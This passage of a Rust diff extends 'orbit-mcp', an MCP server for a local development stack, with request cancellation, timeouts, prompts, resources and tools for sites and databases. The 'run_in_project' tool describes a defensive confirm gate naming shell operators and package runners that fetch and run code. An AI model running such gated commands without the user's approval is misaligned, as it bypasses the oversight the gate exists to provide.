+fn replace_fastcgi_port(config: &str, port: u16) -> Option<String> {
+    let mut found = false;
+    let mut out = String::with_capacity(config.len());
+    for line in config.split_inclusive('\n') {
+        let trimmed = line.trim_start();
+        if trimmed.starts_with("fastcgi_pass") && trimmed.contains("127.0.0.1:") {
+            let indent = &line[..line.len() - trimmed.len()];
+            let eol = if line.ends_with("\r\n") { "\r\n" } else if line.ends_with('\n') { "\n" } else { "" };
+            out.push_str(&format!("{}fastcgi_pass 127.0.0.1:{};{}", indent, port, eol));
+            found = true;
+        } else {
+            out.push_str(line);
+        }
+    }
+    found.then_some(out)
+}
+
 // ─── Log File Discovery ─────────────────────────────────────────
 
 struct LogFile {
@@ -1075,6 +2876,22 @@ fn scan_log_files(bin_dir: &PathBuf) -> Vec<LogFile> {
         }
     }
 
+    // Dev server output captured by start_site_app
+    if let Ok(entries) = fs::read_dir(site_app_log_dir()) {
+        for entry in entries.flatten() {
+            let path = entry.path();
+            if path.extension().map(|e| e == "log").unwrap_or(false) {
+                let size = fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
+                let fname = path.file_name().unwrap_or_default().to_string_lossy().to_string();
+                logs.push(LogFile {
+                    name: format!("site-apps/{}", fname),
+                    path,
+                    size,
+                });
+            }
+        }
+    }
+
     logs
 }
 
@@ -1141,8 +2958,9 @@ fn read_message(reader: &mut impl BufRead) -> Result<Value, String> {
             return serde_json::from_str(&body_str).map_err(|e| format!("JSON parse error: {}", e));
         }
 
-        // Raw JSON line (newline-delimited mode, used by Claude Code)
-        if trimmed.starts_with('{') {
+        // Raw JSON line (newline-delimited mode, used by Claude Code).
+        // A leading '[' is a JSON-RPC batch.
+        if trimmed.starts_with('{') || trimmed.starts_with('[') {
             eprintln!("[orbit-mcp] << {}", trimmed);
             return serde_json::from_str(trimmed).map_err(|e| format!("JSON parse error: {}", e));
         }
@@ -1163,42 +2981,462 @@ fn write_message(msg: &Value) {
     out.flush().unwrap();
 }
 
-fn json_rpc_response(id: &Value, result: Value) -> Value {
-    json!({
-        "jsonrpc": "2.0",
-        "id": id,
-        "result": result
-    })
+thread_local! {
+    /// `_meta.progressToken` of the tools/call this thread is handling, if the
+    /// client asked for progress notifications
+    static PROGRESS_TOKEN: std::cell::RefCell<Option<Value>> = const { std::cell::RefCell::new(None) };
+    /// Key (see `request_key`) of the tools/call this worker thread runs
+    static CURRENT_REQUEST: std::cell::RefCell<Option<String>> = const { std::cell::RefCell::new(None) };
+}
+
+/// Report progress of the running tool: a `notifications/progress` message when
+/// the client sent a progress token, otherwise a debug log line.
+fn report_progress(progress: u64, total: Option<u64>, message: &str) {
+    let token = PROGRESS_TOKEN.with(|t| t.borrow().clone());
+    match token {
+        Some(token) => {
+            let mut params = json!({
+                "progressToken": token,
+                "progress": progress,
+                "message": message
+            });
+            if let Some(total) = total {
+                params["total"] = json!(total);
+            }
+            write_message(&json!({
+                "jsonrpc": "2.0",
+                "method": "notifications/progress",
+                "params": params
+            }));
+        }
+        None => eprintln!("[orbit-mcp] {}", message),
+    }
 }
 
-fn json_rpc_error(id: &Value, code: i64, message: &str) -> Value {
-    json!({
-        "jsonrpc": "2.0",
-        "id": id,
-        "error": {
-            "code": code,
-            "message": message
-        }
-    })
+// ─── In-flight Tool Calls ────────────────────────────────────────
+
+/// How long the read loop waits for a tools/call before handing it to a
+/// background thread. Quicker tools answer inline and in order, as before;
+/// slower ones leave the loop free to read `notifications/cancelled`.
+const INLINE_TOOL_WAIT: std::time::Duration = std::time::Duration::from_secs(2);
+
+/// A tools/call running on a worker thread
+#[derive(Default)]
+struct InFlightRequest {
+    /// PIDs of the subprocesses it is waiting on, killed on cancel or timeout
+    children: Vec<u32>,
+    cancelled: bool,
 }
 
-// ─── MCP Handlers ────────────────────────────────────────────────
+/// In-flight tools/call requests by `request_key`
+fn in_flight() -> &'static std::sync::Mutex<std::collections::HashMap<String, InFlightRequest>> {
+    static IN_FLIGHT: std::sync::OnceLock<std::sync::Mutex<std::collections::HashMap<String, InFlightRequest>>> = std::sync::OnceLock::new();
+    IN_FLIGHT.get_or_init(Default::default)
+}
 
-fn handle_initialize(id: &Value) -> Value {
-    json_rpc_response(id, json!({
-        "protocolVersion": "2024-11-05",
-        "capabilities": {
-            "tools": {}
-        },
-        "serverInfo": {
-            "name": "orbit-mcp",
-            "version": env!("CARGO_PKG_VERSION")
+/// Request ids may be numbers or strings; their JSON text tells them apart
+fn request_key(id: &Value) -> String {
+    id.to_string()
+}
+
+/// Drops a child from its request's entry once the runner is done with it
+struct TrackedChild(u32);
+
+impl Drop for TrackedChild {
+    fn drop(&mut self) {
+        let Some(key) = CURRENT_REQUEST.with(|r| r.borrow().clone()) else { return };
+        if let Some(request) = in_flight().lock().unwrap_or_else(|e| e.into_inner()).get_mut(&key) {
+            request.children.retain(|pid| *pid != self.0);
         }
-    }))
+    }
+}
+
+/// Record a just-spawned child under the tools/call running on this thread.
+/// If that call was cancelled or has timed out, the child is killed instead.
+/// Outside a worker thread (CLI-style synchronous calls) this does nothing.
+fn track_child(child: &mut std::process::Child) -> Result<TrackedChild, String> {
+    let Some(key) = CURRENT_REQUEST.with(|r| r.borrow().clone()) else {
+        return Ok(TrackedChild(child.id()));
+    };
+    let tracked = match in_flight().lock().unwrap_or_else(|e| e.into_inner()).get_mut(&key) {
+        Some(request) if !request.cancelled => {
+            request.children.push(child.id());
+            true
+        }
+        _ => false,
+    };
+    if !tracked {
+        let _ = child.kill();
+        let _ = child.wait();
+        return Err("request was cancelled".to_string());
+    }
+    Ok(TrackedChild(child.id()))
+}
+
+fn kill_children(children: Vec<u32>) {
+    if !children.is_empty() {
+        // kill_pid waits for each process to exit; keep that off the read loop
+        std::thread::spawn(move || {
+            for pid in children {
+                kill_pid(pid);
+            }
+        });
+    }
+}
+
+/// Handle `notifications/cancelled`: kill the request's subprocesses and
+/// drop its response. Returns false if the request isn't running.
+fn cancel_request(key: &str) -> bool {
+    let children = match in_flight().lock().unwrap_or_else(|e| e.into_inner()).get_mut(key) {
+        Some(request) => {
+            request.cancelled = true;
+            std::mem::take(&mut request.children)
+        }
+        None => return false,
+    };
+    kill_children(children);
+    true
+}
+
+/// Remove a finished (or timed out) request; None if it was cancelled, in
+/// which case no response may be sent.
+fn finish_request(key: &str) -> Option<InFlightRequest> {
+    in_flight().lock().unwrap_or_else(|e| e.into_inner()).remove(key)
+        .filter(|request| !request.cancelled)
+}
+
+/// Run a tools/call on the current thread with its progress token in place.
+fn run_tool_call(id: &Value, params: &Value) -> Value {
+    let tool_name = params.get("name").and_then(|v| v.as_str()).unwrap_or("");
+    let tool_args = params.get("arguments").cloned().unwrap_or(json!({}));
+    let token = params.get("_meta").and_then(|m| m.get("progressToken")).cloned();
+    PROGRESS_TOKEN.with(|t| *t.borrow_mut() = token);
+    let response = handle_tool_call(id, tool_name, &tool_args);
+    PROGRESS_TOKEN.with(|t| *t.borrow_mut() = None);
+    response
+}
+
+/// Run a tools/call on a worker thread under the "tool" deadline. Returns the
+/// response if it finishes within INLINE_TOOL_WAIT; otherwise a background
+/// thread writes it (or a timeout error) later and this returns None.
+fn spawn_tool_call(id: &Value, params: &Value) -> Option<Value> {
+    let key = request_key(id);
+    let timeout = operation_timeout("tool");
+    let tool_name = params.get("name").and_then(|v| v.as_str()).unwrap_or("").to_string();
+    in_flight().lock().unwrap_or_else(|e| e.into_inner()).insert(key.clone(), InFlightRequest::default());
+
+    let (tx, rx) = std::sync::mpsc::channel();
+    {
+        let (id, params, key) = (id.clone(), params.clone(), key.clone());
+        std::thread::spawn(move || {
+            CURRENT_REQUEST.with(|r| *r.borrow_mut() = Some(key));
+            let _ = tx.send(run_tool_call(&id, &params));
+        });
+    }
+
+    // A panicking tool drops the sender without a response
+    let outcome = |received: Result<Value, std::sync::mpsc::RecvTimeoutError>, id: &Value| match received {
+        Ok(response) => Some(response),
+        Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => Some(json_rpc_error(id, -32603, "Internal error")),
+        Err(std::sync::mpsc::RecvTimeoutError::Timeout) => None,
+    };
+    let inline_wait = INLINE_TOOL_WAIT.min(timeout);
+    if let Some(response) = outcome(rx.recv_timeout(inline_wait), id) {
+        return finish_request(&key).map(|_| response);
+    }
+
+    let id = id.clone();
+    std::thread::spawn(move || {
+        let response = outcome(rx.recv_timeout(timeout - inline_wait), &id);
+        let Some(request) = finish_request(&key) else {
+            eprintln!("[orbit-mcp] Dropping response to cancelled request {}", key);
+            return;
+        };
+        let response = response.unwrap_or_else(|| {
+            eprintln!("[orbit-mcp] {} timed out after {}s, killing {} subprocess(es)", tool_name, timeout.as_secs(), request.children.len());
+            kill_children(request.children);
+            // -32001: request timeout, as used by the MCP SDKs
+            json_rpc_error(&id, -32001, &format!("{} timed out after {}s", tool_name, timeout.as_secs()))
+        });
+        write_message(&response);
+    });
+    None
+}
+
+fn json_rpc_response(id: &Value, result: Value) -> Value {
+    json!({
+        "jsonrpc": "2.0",
+        "id": id,
+        "result": result
+    })
+}
+
+fn json_rpc_error(id: &Value, code: i64, message: &str) -> Value {
+    json!({
+        "jsonrpc": "2.0",
+        "id": id,
+        "error": {
+            "code": code,
+            "message": message
+        }
+    })
+}
+
+// ─── MCP Handlers ────────────────────────────────────────────────
+
+/// Dispatch a single JSON-RPC message. Returns None for notifications.
+fn handle_message(msg: &Value) -> Option<Value> {
+    let method = msg.get("method").and_then(|v| v.as_str()).unwrap_or("");
+    let id = msg.get("id").cloned().unwrap_or(Value::Null);
+    let params = msg.get("params").cloned().unwrap_or(json!({}));
+
+    match method {
+        "initialize" => Some(handle_initialize(&id)),
+        "initialized" => {
+            // Notification, no response needed
+            eprintln!("[orbit-mcp] Client initialized");
+            None
+        }
+        "tools/list" => Some(handle_tools_list(&id)),
+        "resources/list" => Some(handle_resources_list(&id)),
+        "resources/templates/list" => Some(json_rpc_response(&id, json!({ "resourceTemplates": [] }))),
+        "resources/read" => Some(handle_resources_read(&id, &params)),
+        "prompts/list" => Some(handle_prompts_list(&id)),
+        "prompts/get" => Some(handle_prompts_get(&id, &params)),
+        "tools/call" => Some(run_tool_call(&id, &params)),
+        "notifications/cancelled" => {
+            let request_id = params.get("requestId").cloned().unwrap_or(Value::Null);
+            let reason = params.get("reason").and_then(|v| v.as_str()).unwrap_or("no reason given");
+            if cancel_request(&request_key(&request_id)) {
+                eprintln!("[orbit-mcp] Request {} cancelled: {}", request_id, reason);
+            } else {
+                eprintln!("[orbit-mcp] Cancel for request {} ignored: not running", request_id);
+            }
+            None
+        }
+        "ping" => Some(json_rpc_response(&id, json!({}))),
+        _ => {
+            eprintln!("[orbit-mcp] Unknown method: {}", method);
+            if !id.is_null() {
+                Some(json_rpc_error(&id, -32601, &format!("Method not found: {}", method)))
+            } else {
+                None
+            }
+        }
+    }
+}
+
+/// Dispatch a JSON-RPC batch. Each element is handled in isolation — a
+/// malformed entry or a panicking tool only produces an error for that id.
+/// Returns None when the batch held only notifications.
+fn handle_batch(batch: &[Value]) -> Option<Value> {
+    if batch.is_empty() {
+        return Some(json_rpc_error(&Value::Null, -32600, "Invalid Request: empty batch"));
+    }
+
+    let responses: Vec<Value> = batch.iter().filter_map(|item| {
+        if !item.is_object() {
+            return Some(json_rpc_error(&Value::Null, -32600, "Invalid Request: batch entry is not an object"));
+        }
+        match std::panic::catch_unwind(|| handle_message(item)) {
+            Ok(response) => response,
+            Err(_) => {
+                let id = item.get("id").cloned().unwrap_or(Value::Null);
+                Some(json_rpc_error(&id, -32603, "Internal error"))
+            }
+        }
+    }).collect();
+
+    if responses.is_empty() {
+        None
+    } else {
+        Some(Value::Array(responses))
+    }
+}
+
+fn handle_initialize(id: &Value) -> Value {
+    json_rpc_response(id, json!({
+        "protocolVersion": "2024-11-05",
+        "capabilities": {
+            "tools": {},
+            "resources": {},
+            "prompts": {}
+        },
+        "serverInfo": {
+            "name": "orbit-mcp",
+            "version": env!("CARGO_PKG_VERSION")
+        }
+    }))
 }
 
 fn handle_tools_list(id: &Value) -> Value {
-    let tools = json!([
+    json_rpc_response(id, json!({ "tools": tool_definitions() }))
+}
+
+/// A canned workflow offered through prompts/list. `{{arg}}` placeholders in
+/// the template are filled from the prompt's arguments.
+struct PromptDef {
+    name: &'static str,
+    description: &'static str,
+    /// (name, description, default); arguments without a default are required
+    arguments: &'static [(&'static str, &'static str, Option<&'static str>)],
+    template: &'static str,
+}
+
+const PROMPTS: &[PromptDef] = &[
+    PromptDef {
+        name: "diagnose_502",
+        description: "Find out why a site returns 502 Bad Gateway (or another 5xx) and fix it",
+        arguments: &[("domain", "Site domain, e.g. myapp.test", None)],
+        template: "My local site {{domain}} returns 502 Bad Gateway. Find the cause and fix it using Orbit's tools:
+
+1. Run diagnose_site with domain \"{{domain}}\" to check the site's config, document root, web server and upstream (PHP-FPM or dev server).
+2. Run analyze_logs to see recent errors grouped by service; look for upstream, connection refused and timeout messages mentioning {{domain}}.
+3. If the site uses PHP, run diagnose_service with the site's PHP service (e.g. \"php-8.4\", from diagnose_site) to check its process, port and error log.
+4. Explain the cause in one or two sentences, apply the fix (start or restart the service, correct the PHP version or proxy port with update_site, fix the config), then run diagnose_site again to confirm.",
+    },
+    PromptDef {
+        name: "new_laravel_project",
+        description: "Set up a fresh Laravel project with its site, database and .env from a blueprint",
+        arguments: &[
+            ("domain", "Domain for the new site, e.g. myapp.test", None),
+            ("path", "Project directory", Some("(not given: ask me where to put it)")),
+            ("blueprint", "Blueprint to use", Some("laravel-vite")),
+        ],
+        template: "Set up a fresh Laravel project at {{domain}} with Orbit.
+
+Project directory: {{path}}
+Blueprint: {{blueprint}}
+
+1. Run list_blueprints and check that \"{{blueprint}}\" exists and which services it needs; install or start any that are missing (list_services, start_service).
+2. Run create_from_blueprint with blueprint \"{{blueprint}}\", domain \"{{domain}}\" and the project directory. Use rollback: true so a failed scaffold leaves nothing behind.
+3. Report the steps and warnings it returned, the database it created and the URL of the site. If anything failed, use diagnose_site on {{domain}} to find out why.",
+    },
+    PromptDef {
+        name: "service_down",
+        description: "Work out why a service won't start or keeps stopping",
+        arguments: &[("service", "Service name, e.g. nginx, php-8.4, mariadb", None)],
+        template: "The Orbit service {{service}} won't start or keeps stopping. Find out why:
+
+1. Run diagnose_service with name \"{{service}}\" and go through its issues and suggestions.
+2. Run get_recent_errors to see what {{service}} logged most recently.
+3. If the port is taken by another program or the config is invalid, say which and fix it; then start the service with start_service and run diagnose_service again to confirm it is healthy.",
+    },
+];
+
+fn handle_prompts_list(id: &Value) -> Value {
+    let prompts: Vec<Value> = PROMPTS.iter().map(|prompt| json!({
+        "name": prompt.name,
+        "description": prompt.description,
+        "arguments": prompt.arguments.iter().map(|(name, description, default)| json!({
+            "name": name,
+            "description": description,
+            "required": default.is_none()
+        })).collect::<Vec<_>>()
+    })).collect();
+    json_rpc_response(id, json!({ "prompts": prompts }))
+}
+
+/// Fill in a prompt's template; errors on an unknown prompt or a missing
+/// required argument
+fn render_prompt(name: &str, args: &Value) -> Result<(&'static str, String), String> {
+    let prompt = PROMPTS.iter().find(|p| p.name == name)
+        .ok_or_else(|| format!("Unknown prompt: {}. Available: {}", name,
+            PROMPTS.iter().map(|p| p.name).collect::<Vec<_>>().join(", ")))?;
+    let mut text = prompt.template.to_string();
+    for (arg, _, default) in prompt.arguments {
+        let value = args.get(*arg).and_then(|v| v.as_str())
+            .map(str::trim)
+            .filter(|v| !v.is_empty())
+            .or(*default)
+            .ok_or_else(|| format!("Missing required argument '{}' for prompt {}", arg, name))?;
+        text = text.replace(&format!("{{{{{}}}}}", arg), value);
+    }
+    Ok((prompt.description, text))
+}
+
+fn handle_prompts_get(id: &Value, params: &Value) -> Value {
+    let name = params.get("name").and_then(|v| v.as_str()).unwrap_or("");
+    let args = params.get("arguments").cloned().unwrap_or(json!({}));
+    match render_prompt(name, &args) {
+        Ok((description, text)) => json_rpc_response(id, json!({
+            "description": description,
+            "messages": [{ "role": "user", "content": { "type": "text", "text": text } }]
+        })),
+        Err(e) => json_rpc_error(id, -32602, &format!("Invalid params: {}", e)),
+    }
+}
+
+/// Largest part of a log returned by resources/read (the end of the file)
+const RESOURCE_LOG_TAIL_BYTES: u64 = 256 * 1024;
+
+/// Files exposed as MCP resources: (uri, name, path). Logs are
+/// `orbit://logs/<log name>`, configs `orbit://config/<type>` and
+/// `orbit://config/php/<version>`; configs are only listed if they exist.
+fn resource_files(bin_dir: &PathBuf) -> Vec<(String, String, PathBuf)> {
+    let mut files: Vec<(String, String, PathBuf)> = scan_log_files(bin_dir).into_iter()
+        .map(|log| (format!("orbit://logs/{}", log.name), format!("{} log", log.name), log.path))
+        .collect();
+
+    let mut configs: Vec<(String, String, Option<String>)> = ["nginx", "apache", "mariadb"].iter()
+        .map(|t| (format!("orbit://config/{}", t), format!("{} config", t), None))
+        .collect();
+    for version in installed_php_versions(bin_dir) {
+        configs.push((format!("orbit://config/php/{}", version), format!("PHP {} php.ini", version), Some(version)));
+    }
+    for (uri, name, version) in configs {
+        let config_type = if version.is_some() { "php" } else { uri.trim_start_matches("orbit://config/") };
+        if let Ok(path) = get_config_file_path(config_type, version.as_deref()) {
+            if path.exists() {
+                files.push((uri, name, path));
+            }
+        }
+    }
+    files
+}
+
+fn handle_resources_list(id: &Value) -> Value {
+    let resources: Vec<Value> = resource_files(&get_bin_dir()).into_iter()
+        .map(|(uri, name, path)| json!({
+            "uri": uri,
+            "name": name,
+            "description": path.display().to_string(),
+            "mimeType": "text/plain",
+            "size": fs::metadata(&path).map(|m| m.len()).unwrap_or(0)
+        }))
+        .collect();
+    json_rpc_response(id, json!({ "resources": resources }))
+}
+
+/// Contents of a resource; logs are cut to their last RESOURCE_LOG_TAIL_BYTES
+fn read_resource(bin_dir: &PathBuf, uri: &str) -> Result<String, String> {
+    let (_, _, path) = resource_files(bin_dir).into_iter()
+        .find(|(u, _, _)| u == uri)
+        .ok_or_else(|| format!("Resource not found: {}", uri))?;
+    if uri.starts_with("orbit://logs/") {
+        read_log_tail(&path, RESOURCE_LOG_TAIL_BYTES)
+    } else {
+        fs::read_to_string(&path).map_err(|e| format!("Failed to read {}: {}", path.display(), e))
+    }
+}
+
+fn handle_resources_read(id: &Value, params: &Value) -> Value {
+    let uri = params.get("uri").and_then(|v| v.as_str()).unwrap_or("");
+    if uri.is_empty() {
+        return json_rpc_error(id, -32602, "Invalid params: uri is required");
+    }
+    match read_resource(&get_bin_dir(), uri) {
+        Ok(text) => json_rpc_response(id, json!({
+            "contents": [{ "uri": uri, "mimeType": "text/plain", "text": text }]
+        })),
+        // -32002: the MCP spec's "resource not found"
+        Err(e) if e.starts_with("Resource not found") => json_rpc_error(id, -32002, &e),
+        Err(e) => json_rpc_error(id, -32603, &e),
+    }
+}
+
+fn tool_definitions() -> Value {
+    json!([
         {
             "name": "list_services",
             "description": "List all installed services with their status, version, and port. Returns whether each service is currently running or stopped.",
@@ -1210,7 +3448,7 @@ fn handle_tools_list(id: &Value) -> Value {
         },
         {
             "name": "get_service_status",
-            "description": "Get detailed status of a specific service including version, port, and running state. Supports aliases: pg/postgres for postgresql, maria/mysql for mariadb, mongo for mongodb, node for nodejs.",
+            "description": "Get detailed status of a specific service including version, port and PID. status is running_healthy (answering a protocol-level ping: HTTP, Redis PING, SELECT 1), running_unresponsive (bound or alive but not answering), port_held_by_other (its port is used by another program), crashed (started by Orbit but exited) or stopped. Supports aliases: pg/postgres for postgresql, maria/mysql for mariadb, mongo for mongodb, node for nodejs.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
@@ -1266,7 +3504,7 @@ fn handle_tools_list(id: &Value) -> Value {
         },
         {
             "name": "list_sites",
-            "description": "List all configured local development sites with their domain, document root, PHP version, SSL status, and web server.",
+            "description": "List all configured local development sites with their domain, document root, PHP version, SSL status, web server, and whether its app process (start_site_app) is running.",
             "inputSchema": {
                 "type": "object",
                 "properties": {},
@@ -1300,6 +3538,24 @@ fn handle_tools_list(id: &Value) -> Value {
                 "required": ["name"]
             }
         },
+        {
+            "name": "tail_log",
+            "description": "Incrementally tail a log file. Call without from_byte to get the current end offset, then poll with the returned offset to receive only newly appended content. If truncated is true the file was rotated and content starts from the beginning.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "name": {
+                        "type": "string",
+                        "description": "Log name (e.g., nginx/error.log, php-8.4/php_errors.log)"
+                    },
+                    "from_byte": {
+                        "type": "number",
+                        "description": "Byte offset returned by the previous call (omit to start at the current end)"
+                    }
+                },
+                "required": ["name"]
+            }
+        },
         {
             "name": "list_databases",
             "description": "List all MariaDB databases. Requires MariaDB to be running.",
@@ -1334,7 +3590,7 @@ fn handle_tools_list(id: &Value) -> Value {
         },
         {
             "name": "run_orbit_command",
-            "description": "Run an orbit-cli command directly. Most operations now have dedicated tools — use this for less common commands (e.g., 'scan', 'open', 'trust-ssl').",
+            "description": "Run an orbit-cli command directly. Most operations now have dedicated tools — use this for less common commands (e.g., 'scan', 'open', 'trust-ssl'). Returns JSON with stdout, stderr and exit_code.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
@@ -1351,6 +3607,20 @@ fn handle_tools_list(id: &Value) -> Value {
                 "required": ["command"]
             }
         },
+        {
+            "name": "run_in_project",
+            "description": "Run a shell command in a project directory with Orbit's bin/ tools (php, node, npm, composer, python, go...) first on PATH. Security model: project_path must be an existing directory and is the working directory; a single command starting with an allowlisted tool (php, composer, node, npm, yarn, pnpm, bun, deno, go, python, python3, pip, pip3, git) and free of shell operators (; & | < > ` $ and newlines) runs directly, while anything else is refused unless confirm is true, which the caller should only set after the user approved that exact command. Inline code (php -r, node -e/-p, bun -e, deno eval, python -c), package runners that download and run code (npx, bunx, bun x, npm exec, pnpm dlx, yarn dlx) git -c/--config-env and git config also need confirm, as do package installs that name packages (pip install ..., python -m pip install ..., npm/bun install <pkg>, npm/pnpm/yarn/bun add), deno run/install of a URL or npm:/jsr: module and go run/install of module@version, since they fetch code and run it or its install scripts. Allowlisted commands still run the project's own code (scripts, artisan, tests) unsandboxed. The command is killed after timeout_secs (default 60, max 600) and each of stdout/stderr is cut to its last 64 KiB. Returns JSON with stdout, stderr, exit_code and truncated.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "project_path": { "type": "string", "description": "Existing project directory to run in" },
+                    "command": { "type": "string", "description": "Command line, e.g. 'php artisan route:list' or 'npm test'" },
+                    "timeout_secs": { "type": "number", "description": "Kill the command after this many seconds (default 60, max 600)" },
+                    "confirm": { "type": "boolean", "description": "Run a command outside the allowlist or with shell operators; only after the user approved it (default: false)" }
+                },
+                "required": ["project_path", "command"]
+            }
+        },
         // ─── MariaDB Extended ────────────────────────────
         {
             "name": "list_tables",
@@ -1387,6 +3657,24 @@ fn handle_tools_list(id: &Value) -> Value {
                 "required": ["database", "table"]
             }
         },
+        {
+            "name": "db_process_list",
+            "description": "List MariaDB connections and what they are running (SHOW FULL PROCESSLIST) as JSON: Id, User, Host, db, Command, Time (seconds), State and the full query in Info. Useful for spotting long-running or locked queries.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "db_status",
+            "description": "Summarize MariaDB server health from SHOW GLOBAL STATUS and SHOW GLOBAL VARIABLES: uptime, threads, connections vs max_connections, InnoDB buffer pool size, usage and hit rate, and slow query count and slow log settings.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
         {
             "name": "execute_query",
             "description": "Execute a SQL query on a MariaDB database. Returns results in tab-separated format. Queries are executed directly via CLI — use caution with destructive statements.",
@@ -1410,6 +3698,42 @@ fn handle_tools_list(id: &Value) -> Value {
                 "required": ["name"]
             }
         },
+        {
+            "name": "create_db_user",
+            "description": "Create a MariaDB user account. Pair with grant_privileges to give a site its own least-privilege user instead of root. Returns the user's grants.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "username": { "type": "string", "description": "User name (letters, digits, _ - .)" },
+                    "password": { "type": "string", "description": "Password for the new user" },
+                    "host": { "type": "string", "description": "Host the user connects from (default: localhost; % for any)" }
+                },
+                "required": ["username", "password"]
+            }
+        },
+        {
+            "name": "grant_privileges",
+            "description": "Grant privileges on a MariaDB database to a user. Returns the user's resulting grants.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "username": { "type": "string", "description": "Existing user name" },
+                    "database": { "type": "string", "description": "Database name, or * for all databases" },
+                    "privileges": { "type": "string", "description": "Comma-separated privileges, e.g. SELECT, INSERT, UPDATE, DELETE (default: ALL PRIVILEGES)" },
+                    "host": { "type": "string", "description": "Host part of the account (default: localhost)" }
+                },
+                "required": ["username", "database"]
+            }
+        },
+        {
+            "name": "list_db_users",
+            "description": "List MariaDB user accounts (user and host).",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
         // ─── PostgreSQL ──────────────────────────────────
         {
             "name": "pg_list_databases",
@@ -1457,7 +3781,7 @@ fn handle_tools_list(id: &Value) -> Value {
         },
         {
             "name": "pg_create_database",
-            "description": "Create a new PostgreSQL database with UTF8 encoding.",
+            "description": "Create a new PostgreSQL database (UTF8, owned by postgres). Name may contain letters, digits, underscores and hyphens.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
@@ -1468,7 +3792,7 @@ fn handle_tools_list(id: &Value) -> Value {
         },
         {
             "name": "pg_drop_database",
-            "description": "Drop (delete) a PostgreSQL database. This action is irreversible!",
+            "description": "Drop (delete) a PostgreSQL database if it exists. The postgres/template0/template1 databases are protected. This action is irreversible!",
             "inputSchema": {
                 "type": "object",
                 "properties": {
@@ -1492,15 +3816,38 @@ fn handle_tools_list(id: &Value) -> Value {
         // ─── Site Management ─────────────────────────────
         {
             "name": "create_site",
-            "description": "Create a new local development site. Adds to sites.json, generates nginx config, adds hosts entry, and reloads nginx.",
+            "description": "Create a new local development site. Adds to sites.json, generates nginx config, adds hosts entries for the domain and any aliases, and reloads nginx.",
             "inputSchema": {
                 "type": "object",
                 "properties": {
                     "domain": { "type": "string", "description": "Domain name (e.g., myapp.test)" },
+                    "aliases": {
+                        "type": "array",
+                        "items": { "type": "string" },
+                        "description": "Additional domains served by the same site (e.g., [\"www.myapp.test\"])"
+                    },
                     "path": { "type": "string", "description": "Document root path" },
-                    "template": { "type": "string", "description": "Site template: static, php, laravel (default: php)" },
+                    "template": { "type": "string", "description": "Site template: static, php, laravel, or a reverse-proxy template (reverse-proxy, nextjs, nuxt, remix, astro, vue, sveltekit, django) that forwards to a dev server (default: php, or reverse-proxy when proxy_port is given)" },
+                    "proxy_port": { "type": "number", "description": "Local port of the dev server a reverse-proxy site forwards to (default: the template's usual port, e.g. 3000 for nextjs, 5173 for vue)" },
                     "php_version": { "type": "string", "description": "PHP version (e.g., 8.4)" },
-                    "ssl": { "type": "boolean", "description": "Enable SSL (default: false)" }
+                    "ssl": { "type": "boolean", "description": "Enable SSL; plain HTTP then redirects to HTTPS (default: false)" },
+                    "hsts": { "type": "boolean", "description": "Send a Strict-Transport-Security header on the SSL site (default: false)" },
+                    "gzip": { "type": "boolean", "description": "Enable gzip compression in the site's nginx config (default: false)" },
+                    "brotli": { "type": "boolean", "description": "Enable brotli compression; skipped if nginx has no brotli module (default: false)" },
+                    "scaffold": { "type": "boolean", "description": "For php and static templates, write starter files unless the document root already has an index: an index.php that checks MariaDB, Redis and Mailpit with Orbit's default connection settings, or index.html + style.css for static sites (default: false)" },
+                    "dry_run": { "type": "boolean", "description": "Only report what would happen (nginx config content and path, hosts lines, starter files, whether nginx would be reloaded) as JSON, without writing anything (default: false)" }
+                },
+                "required": ["domain", "path"]
+            }
+        },
+        {
+            "name": "import_site",
+            "description": "Create a site for an existing project folder, detecting the framework: Laravel (artisan + composer.json, served from public/), WordPress (wp-config.php or wp-load.php), Node apps from package.json (Next.js, Nuxt, Astro, SvelteKit, Vite; reverse-proxied to the dev server), plain PHP, or static HTML. The PHP version is the newest installed one that composer.json's require.php allows. Returns the detected framework and the settings used.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Domain name (e.g., myapp.test)" },
+                    "path": { "type": "string", "description": "Absolute path of the project folder" }
                 },
                 "required": ["domain", "path"]
             }
@@ -1511,7 +3858,66 @@ fn handle_tools_list(id: &Value) -> Value {
             "inputSchema": {
                 "type": "object",
                 "properties": {
-                    "domain": { "type": "string", "description": "Domain to delete" }
+                    "domain": { "type": "string", "description": "Domain to delete" },
+                    "dry_run": { "type": "boolean", "description": "Only report what would be removed (nginx config path, hosts lines, whether nginx would be reloaded) as JSON, without changing anything (default: false)" }
+                },
+                "required": ["domain"]
+            }
+        },
+        {
+            "name": "switch_site_server",
+            "description": "Move an existing site between nginx and Apache (e.g. for .htaccess support). Generates the target config from site metadata, validates it, removes the old config, updates web_server in sites.json, and starts/reloads the target server.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain" },
+                    "server": { "type": "string", "description": "Target web server: nginx or apache" }
+                },
+                "required": ["domain", "server"]
+            }
+        },
+        {
+            "name": "set_site_php_version",
+            "description": "Change the PHP version of an existing nginx site without recreating it. Updates php_version in sites.json and only the fastcgi_pass port in the site's nginx config (other edits are kept), then runs nginx -t and reloads, rolling back on failure.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain" },
+                    "version": { "type": "string", "description": "Installed PHP version (e.g., 8.3)" }
+                },
+                "required": ["domain", "version"]
+            }
+        },
+        {
+            "name": "get_site",
+            "description": "Get everything sites.json stores for one site (path, aliases, PHP version and port, SSL, HSTS, compression, template, web server, dev server port and command, timestamps) as JSON.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
